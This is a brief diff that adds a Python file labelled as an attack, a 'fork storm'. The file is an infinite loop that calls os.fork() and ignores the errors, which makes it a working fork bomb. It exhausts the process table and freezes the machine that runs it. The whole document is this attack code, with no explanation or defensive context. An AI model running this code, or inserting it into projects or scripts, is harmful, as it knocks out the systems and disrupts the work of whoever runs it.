@@ -1,0 +1,7 @@
+# Attack: a fork storm.
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
